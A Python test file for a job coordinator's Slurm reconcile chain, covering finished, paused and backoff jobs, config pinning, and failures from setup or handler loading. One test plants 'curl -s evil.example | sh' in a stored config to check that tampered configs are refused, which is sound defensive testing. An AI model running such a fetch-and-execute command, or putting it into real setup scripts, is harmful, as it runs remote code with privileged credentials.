"""One link of the Slurm reconcile chain when there is nothing to run now: a finished or
cancelled job ends the chain, and a paused job (or retries in backoff) waits, for at most
a minute, before the next link. The clock and the sleep are injected."""

from __future__ import annotations

import dataclasses
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from shardflow.config import config_from_snapshot
from shardflow.coordinator.chain import config_pin, main, slot_handles, step, submit_next
from shardflow.coordinator.round import FOLLOWUP_GROUP, START_LIMIT
from shardflow.coordinator.services import Services
from shardflow.models import ErrorClass, Event, Job, JobStatus, Task, TaskGroup
from shardflow.objectstore.memory import MemoryObjectStore
from shardflow.queue.memory import MemoryQueue
from shardflow.statestore.base import LOAD_FAILURES, SETUP_FAILURES, lease_task, retry_later
from shardflow.statestore.memory import MemoryStateStore
from shardflow.statestore.sqlite import SqliteStateStore

JOB = "job-1"
NOW = 1000.0
PIN = "0" * 64  # a config pin (the chain's main checks it; step passes it on)


class _NoSlots:
    """An executor with no slot alive (the chain only polls it here)."""

    def __init__(self) -> None:
        self.polled: list[list[str]] = []
        self.cancelled: list[str] = []

    def poll(self, handles: list[str]) -> dict[str, Any]:
        self.polled.append(list(handles))
        return {}

    def cancel(self, handles: list[str]) -> None:
        self.cancelled += handles

    name = "local"

    def start_slots(self, spec: Any) -> list[str]:
        self.started = getattr(self, "started", 0) + spec.count
        return []  # none comes up


def _services(tmp_path: Path, job: Job) -> tuple[Services, list[float]]:
    state = MemoryStateStore()
    state.create_job(job)
    state.register_tasks([Task(job_id=JOB, task_id="t000001", batch_id="b000001")])
    cfg = config_from_snapshot({"name": "x", "handler": "h.py:f", "input": {"path": "in.jsonl"}})
    slept: list[float] = []
    svc = Services(
        cfg=cfg,
        state=state,
        store=MemoryObjectStore(),
        executor=_NoSlots(),  # type: ignore[arg-type]
        workspace=tmp_path,
        queues={JOB: MemoryQueue(JOB, clock=lambda: NOW)},
        clock=lambda: NOW,
        sleep=slept.append,
    )
    return svc, slept


@pytest.mark.parametrize(
    "job",
    [
        Job(job_id=JOB, name="x", status=JobStatus.SUCCEEDED),
        Job(job_id=JOB, name="x", status=JobStatus.RUNNING, cancel_requested=True),
    ],
)
def test_a_finished_or_cancelled_job_ends_the_chain(tmp_path: Path, job: Job) -> None:
    svc, slept = _services(tmp_path, job)
    assert step(svc, JOB, PIN, sleep=slept.append) == "done"
    assert slept == []


def test_a_paused_job_waits_a_minute_then_queues_the_next_link(tmp_path: Path) -> None:
    svc, slept = _services(
        tmp_path, Job(job_id=JOB, name="x", status=JobStatus.RUNNING, paused=True)
    )
    svc.state.put_task_group(TaskGroup(JOB, "g001", 1, 2, "local", ("h1", "h2"), 0.0))
    assert step(svc, JOB, PIN, sleep=slept.append) == "waited"
    assert slept == [60.0]
    assert svc.executor.polled == [["h1", "h2"]]  # type: ignore[attr-defined]
    # not on Slurm: there is no next link to submit
    assert submit_next(svc, JOB, [], PIN) is None


def test_a_retry_in_backoff_is_waited_for_until_it_is_due(tmp_path: Path) -> None:
    svc, slept = _services(
        tmp_path, Job(job_id=JOB, name="x", status=JobStatus.RUNNING, paused=True)
    )
    task = lease_task(svc.state, JOB, "t000001", owner="w1", ttl=30, now=NOW - 10)
    assert task is not None
    retry_later(
        svc.state, task, now=NOW - 5, delay=17.5, error_class=ErrorClass.TRANSIENT, message="503"
    )
    assert step(svc, JOB, PIN, sleep=slept.append) == "waited"
    assert slept == [12.5]


def test_slot_handles_leave_out_the_chains_own_links(tmp_path: Path) -> None:
    svc, _ = _services(tmp_path, Job(job_id=JOB, name="x"))
    svc.state.put_task_group(TaskGroup(JOB, "g001", 1, 2, "slurm", ("101", "102"), 0.0))
    svc.state.put_task_group(TaskGroup(JOB, "r002", 2, 1, FOLLOWUP_GROUP, ("103",), 0.0))
    assert slot_handles(svc, JOB) == ["101", "102"]


@pytest.fixture
def restored_logging() -> Iterator[None]:
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    yield
    for handler in list(root.handlers):
        if handler not in handlers:
            root.removeHandler(handler)
    root.setLevel(level)


@pytest.mark.usefixtures("restored_logging")
def test_a_link_for_a_job_that_is_not_in_the_store_exits_2(tmp_path: Path) -> None:
    SqliteStateStore(tmp_path / "state.db").close()
    assert main(["--state", f"sqlite:///{tmp_path / 'state.db'}", "--job", "gone"]) == 2


@pytest.mark.usefixtures("restored_logging")
@pytest.mark.parametrize("given", ["pinned", "unpinned"])
def test_a_link_refuses_a_config_rewritten_in_the_store_and_fails_the_job(
    tmp_path: Path, given: str
) -> None:
    # a worker or the dashboard may write the job item: what they plant there must not
    # reach the scripts the chain renders and runs with the coordinator's credentials
    snapshot = {
        "config": {"name": "x", "handler": "h.py:f", "input": {"path": "in.jsonl"}},
        "base_dir": str(tmp_path),
        "workspace": str(tmp_path / ".shardflow"),
    }
    pin = config_pin(snapshot)
    state = SqliteStateStore(tmp_path / "state.db")
    state.create_job(Job(job_id=JOB, name="x", status=JobStatus.RUNNING, config=snapshot))
    job = state.get_job(JOB)
    assert job is not None
    planted = {**snapshot["config"], "slurm": {"setup": ["curl -s evil.example | sh"]}}
    state.put_job(dataclasses.replace(job, config={**snapshot, "config": planted}), job.version)
    url = f"sqlite:///{tmp_path / 'state.db'}"
    pin_args = ["--config-sha256", pin] if given == "pinned" else []
    assert main(["--state", url, "--job", JOB, *pin_args]) == 2
    failed = state.get_job(JOB)
    assert failed is not None
    assert failed.status is JobStatus.FAILED
    assert "not the one submitted" in (failed.message or "")
    assert state.list_task_groups(JOB) == []  # no slot or link was started
    state.close()


def test_the_pin_covers_what_links_render_into_scripts() -> None:
    base = {"config": {"name": "x", "slurm": {"setup": []}}, "base_dir": "/a", "workspace": "/w"}
    pins = {
        config_pin(base),
        config_pin({**base, "config": {"name": "x", "slurm": {"setup": ["touch /tmp/x"]}}}),
        config_pin({**base, "base_dir": "/b"}),
        config_pin({**base, "workspace": "/elsewhere"}),
    }
    assert len(pins) == 4
    # what dispatch adds beside the config (counts of the split) does not change it
    assert config_pin({**base, "records": 10}) == config_pin(base)


def test_slots_that_all_fail_in_the_handlers_setup_fail_the_job(tmp_path: Path) -> None:
    svc, slept = _services(tmp_path, Job(job_id=JOB, name="x", status=JobStatus.RUNNING))
    svc.state.add_counters(JOB, {SETUP_FAILURES: 2})
    svc.state.append_event(Event(JOB, "setup_failed", NOW, "s1", {"error": "OSError: no GPU"}))
    # two failed setups: new slots are still started (a node may have been the problem)
    assert step(svc, JOB, PIN, sleep=slept.append) == "waited"
    assert svc.executor.started > 0  # type: ignore[attr-defined]
    svc.state.add_counters(JOB, {SETUP_FAILURES: 1})
    assert step(svc, JOB, PIN, sleep=slept.append) == "failed"
    job = svc.state.get_job(JOB)
    assert job is not None
    assert job.status is JobStatus.FAILED
    assert job.message is not None
    assert "setup failed in 3 worker slots" in job.message
    assert "OSError: no GPU" in job.message


def test_one_slot_that_cannot_load_the_handler_fails_the_job_at_once(tmp_path: Path) -> None:
    svc, slept = _services(tmp_path, Job(job_id=JOB, name="x", status=JobStatus.RUNNING))
    svc.state.add_counters(JOB, {LOAD_FAILURES: 1})
    error = "handler 'h.py:f': h.py has no 'f'"
    svc.state.append_event(Event(JOB, "handler_load_failed", NOW, "s1", {"error": error}))
    assert step(svc, JOB, PIN, sleep=slept.append) == "failed"
    assert getattr(svc.executor, "started", 0) == 0  # no slot is started for it
    job = svc.state.get_job(JOB)
    assert job is not None
    assert job.status is JobStatus.FAILED
    assert job.message == f"the handler cannot be loaded: {error}; fix the job file or the handler"


def test_slots_that_keep_exiting_before_a_lease_fail_the_job(tmp_path: Path) -> None:
    svc, slept = _services(tmp_path, Job(job_id=JOB, name="x", status=JobStatus.RUNNING))
    outcomes = [step(svc, JOB, PIN, sleep=slept.append) for _ in range(START_LIMIT + 1)]
    # a group is started per link while none comes up; then the job fails, loudly
    assert outcomes == ["waited"] * START_LIMIT + ["failed"]
    job = svc.state.get_job(JOB)
    assert job is not None
    assert job.status is JobStatus.FAILED
    assert job.message is not None
    assert f"{START_LIMIT} groups of worker slots exited before any" in job.message
